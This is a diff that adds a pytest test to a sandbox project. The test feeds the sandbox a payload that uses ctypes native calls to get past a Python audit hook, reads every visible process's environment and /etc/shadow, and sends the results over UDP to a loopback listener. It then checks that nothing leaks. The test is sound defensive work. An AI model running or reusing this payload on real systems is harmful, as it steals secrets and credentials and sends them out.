@@ -271,3 +271,43 @@ def test_closing_removes_the_sandbox_s_cgroups(tmp_path: Path, isolated: None) -
         assert planner.cgroups is not None
         paths = list(planner.cgroups.paths)
     assert len(paths) == 2 and not any(path.exists() for path in paths)
+
+
+# The fallback's hole, tried where the isolation is full: native calls past the audit hook read
+# every process's environment it can see and /etc/shadow, and send what they found over UDP to
+# a listener of the test's, on the host's loopback.
+PAST_THE_HOOK = """
+libc = ctypes.CDLL(None, use_errno=True)
+found = {}
+for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
+    try:
+        found[pid] = open(f'/proc/{pid}/environ', 'rb').read().decode(errors='replace')
+    except OSError as exc:
+        found[pid] = type(exc).__name__
+found['shadow'] = libc.open(b'/etc/shadow', 0)
+payload = repr(found).encode()
+fd = libc.socket(2, 2, 0)  # AF_INET, SOCK_DGRAM
+address = bytes([2, 0]) + PORT.to_bytes(2, 'big') + bytes([127, 0, 0, 1]) + bytes(8)
+sent = libc.sendto(fd, payload, len(payload), 0, address, 16)
+found['sent'] = (sent, os.strerror(ctypes.get_errno()) if sent < 0 else None)
+raise RuntimeError(repr(found))
+"""
+
+
+def test_native_code_past_the_audit_hook_finds_nothing_to_send(
+        tmp_path: Path, isolated: None, monkeypatch: pytest.MonkeyPatch) -> None:
+    import socket
+
+    monkeypatch.setenv("FLYBO_SECRET_KEY", "canary-secret")
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.settimeout(0.5)
+        port = listener.getsockname()[1]
+        body = f"PORT = {port}\n{PAST_THE_HOOK}"
+        reason = _fly(tmp_path, _planner(body))
+        with pytest.raises(TimeoutError):
+            listener.recvfrom(65536)  # nothing reached the host
+    assert "canary-secret" not in reason and "FLYBO_" not in reason, reason
+    assert "'shadow': -1" in reason, reason
+    # Its own loopback only: there the datagram goes nowhere.
+    assert "'sent': (" in reason, reason
